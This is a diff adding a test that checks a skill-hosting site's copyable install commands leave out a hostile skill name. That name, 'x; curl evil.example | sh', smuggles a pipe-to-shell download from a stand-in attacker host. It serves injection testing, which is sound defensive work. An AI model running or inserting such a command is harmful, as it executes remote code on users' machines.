@@ -94,6 +94,23 @@ describe('without a browser', () => {
     expect(files.reduce((sum, { body }) => sum + gzipSync(body).length, 0)).toBeLessThan(60_000)
   })
 
+  it('puts no name of a stranger into a command that people paste', async () => {
+    await serverWith()
+    const evil = { 'a/SKILL.md': skill('"x; curl evil.example | sh"'), 'b/SKILL.md': skill('b') }
+    server.github.host('acme/evil', evil)
+    const commands = async (path: string) => {
+      const { text } = await server.get(`/r/acme/evil?path=${path}`, asPage)
+      return [...text.matchAll(/<code tabindex="0" data-copy="[^"]*">(npx[^<]*|gh[^<]*)</g)].map(
+        ([, command]) => command,
+      )
+    }
+    expect(await commands('a')).toEqual(['npx skills add acme/evil', 'gh skill install acme/evil'])
+    expect(await commands('b')).toEqual([
+      'npx skills add acme/evil --skill b',
+      'gh skill install acme/evil b',
+    ])
+  })
+
   it('says in the same words as the API what cannot be shown', async () => {
     await serverWith({ env: { SKILLGAUGE_SCANS_PER_MINUTE: '2' } })
     server.github.host('acme/secret', { 'a/SKILL.md': skill('a') }).private = true
